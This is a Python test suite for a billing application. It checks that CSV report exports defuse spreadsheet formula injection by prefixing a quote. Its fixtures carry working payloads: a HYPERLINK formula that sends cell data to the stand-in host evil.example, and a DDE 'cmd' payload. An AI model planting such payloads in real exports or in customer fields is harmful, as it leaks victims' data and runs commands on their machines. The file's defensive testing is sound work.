"""CSV formula injection: a customer (or staff) can type text a spreadsheet would run as a
formula; every CSV export writes such cells with a leading quote (OWASP), and our own
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import time_machine

from fairbill.catalog.services import tax_rate_create
from fairbill.core.spreadsheet import csv_cell
from fairbill.customers.services import customer_create
from fairbill.invoicing.services import invoice_create
from fairbill.payments.services import credit_add, payment_record

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Refund")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _frozen_clock():
    with time_machine.travel("2027-06-15 10:00:00+01:00", tick=False):
        yield


@pytest.fixture
def attacker(business, system):
    """A customer whose name and email are formulas, paying tax named like one."""
    tax_rate_create(actor=system, country="GB", name="@SUM(1+1)*cmd|' /C calc'!A0", rate="20")
    return customer_create(actor=system, name=HYPERLINK, email="+1@evil.example", country="GB")


def paid_invoice(system, customer):
    invoice = invoice_create(
        actor=system,
        customer=customer,
        lines=[{"description": "Work", "quantity": "1", "unit_price": "100.00"}],
        issue_date=date(2027, 5, 3),
    )
    payment_record(
        actor=system, invoice=invoice, amount="120.00", method="card", on=date(2027, 5, 4)
    )
    return invoice


def export(client, path: str, **params: str) -> list[list[str]]:
    response = client.get(path, {**params, "export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_paid_invoices_csv_neutralises_the_customer_name(staff_client, attacker, system):
    invoice = paid_invoice(system, attacker)
    rows = export(staff_client, "/reports/paid-invoices/", since="2027-05-01", until="2027-05-31")
    assert rows[1] == [
        invoice.number,
        "'" + HYPERLINK,
        "2027-05-03",
        "2027-05-04",
        "100.00",
        "20.00",
        "120.00",
        "0.00",  # credited
    ]
    assert_no_live_formula(rows)


def test_credit_balances_csv_neutralises_name_and_email(staff_client, attacker, system):
    credit_add(actor=system, customer=attacker, amount="30.00", reason="=1+1", on=date(2027, 3, 1))
    rows = export(staff_client, "/reports/credit/", until="2027-04-30")
    assert rows[1] == [str(attacker.pk), "'" + HYPERLINK, "'+1@evil.example", "30.00"]
    assert_no_live_formula(rows)


def test_tax_collected_csv_neutralises_the_tax_name(staff_client, attacker, system):
    paid_invoice(system, attacker)
    rows = export(staff_client, "/reports/tax/", since="2027-05-01", until="2027-05-31")
    assert rows[1] == ["2027-05", "'@SUM(1+1)*cmd|' /C calc'!A0", "20", "100.00", "20.00"]
    assert_no_live_formula(rows)


def test_payments_by_method_csv_has_no_live_formula(staff_client, attacker, system):
    paid_invoice(system, attacker)
    rows = export(staff_client, "/reports/payments/")
    assert rows == [["Method", "Payments", "Amount"], ["Card", "1", "120.00"]]
    assert_no_live_formula(rows)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Jane = Smith", "Jane = Smith"),
        ("", ""),
    ],
)
def test_text_cells_starting_a_formula_get_a_quote(value, cell):
    assert csv_cell(value) == cell


def test_our_own_numbers_and_dates_stay_numbers():
    # A negative amount comes from the database, not from what somebody typed: a spreadsheet
    # must still be able to add it up.
    from decimal import Decimal

    assert csv_cell(Decimal("-12.50")) == "-12.50"
    assert csv_cell(-3) == "-3"
    assert csv_cell(date(2027, 5, 3)) == "2027-05-03"
    assert csv_cell(None) == ""
